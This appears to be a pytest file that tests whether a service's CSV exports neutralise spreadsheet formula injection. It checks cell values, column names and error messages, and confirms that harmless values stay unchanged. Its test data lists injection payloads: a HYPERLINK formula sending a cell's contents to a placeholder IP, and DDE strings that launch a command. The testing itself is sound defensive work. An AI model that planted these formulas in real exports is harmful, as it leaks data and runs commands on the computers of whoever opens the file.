"""Formulas in what leaves the service: a name typed today must not run in a spreadsheet tomorrow."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from goldenthread.foundation.csv_rows import Row, RowError, as_csv, write_bad_rows
from goldenthread.people.encoded_files import quoted, unquoted, write_rows

FORMULAS = ('=HYPERLINK("http://192.0.2.1/"&A1)', "=cmd|'/C calc'!A0", "+1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "-2+3", "=1+1")  # fmt: skip
HARMLESS = ("-5", "-5.25", "O'Neil", "Anne-Marie", "12", "", "'quoted'")
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take a cell for a formula."""
    if cell.startswith(STARTS):
        try:
            float(cell)
        except ValueError:
            return True
    return False


@pytest.mark.parametrize("value", FORMULAS)
def test_rows_that_are_sent_back_run_nothing(tmp_path: Path, value: str) -> None:
    """In a value, in the name of a column, and in a reason that repeats what was given."""
    row = Row(2, {"name": value, value: "x"})
    path = write_bad_rows(
        tmp_path / "bad.csv", ["name", value], [row], [RowError(2, "", f"{value} is not a name")]
    )
    cells = [
        cell for line in csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")) for cell in line
    ]
    assert cells and not [cell for cell in cells if runs(cell)]


@pytest.mark.parametrize("value", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(tmp_path: Path, value: str) -> None:
    path = write_bad_rows(
        tmp_path / "bad.csv", ["name"], [Row(2, {"name": value})], [RowError(2, "name", "wrong")]
    )
    assert list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")))[1][0] == value


@pytest.mark.parametrize("value", FORMULAS)
def test_lists_that_are_sent_run_nothing(value: str) -> None:
    """What boards and other lists send, in a heading and in a row."""
    rows = list(csv.reader(io.StringIO(as_csv([[value], [value, "x"]]).decode("utf-8-sig"), newline="")))
    assert [len(row) for row in rows] == [1, 2] and not [cell for row in rows for cell in row if runs(cell)]


@pytest.mark.parametrize("value", FORMULAS)
def test_encoded_files_run_nothing_and_give_back_what_they_were_given(tmp_path: Path, value: str) -> None:
    path = tmp_path / "encoded.csv"
    write_rows(path, ["id"], [[value]])
    cells = [cell for line in csv.reader(io.StringIO(path.read_text("utf-8"), newline="")) for cell in line]
    assert not [cell for cell in cells if runs(cell)]
    assert unquoted(quoted(value)) == value


def test_no_other_code_writes_spreadsheets(request: Any) -> None:
    """A new writer of CSV or Excel must come here with its formulas."""
    source = Path(__file__).parents[2] / "src" / "goldenthread"
    writers = {
        path.relative_to(source).as_posix()
        for path in source.rglob("*.py")
        if "tests" not in path.parts
        and any(one in path.read_text("utf-8") for one in ("csv.writer", "DictWriter", "xlsxwriter"))
    }
    assert writers == {"foundation/csv_rows.py", "people/encoded_files.py"}
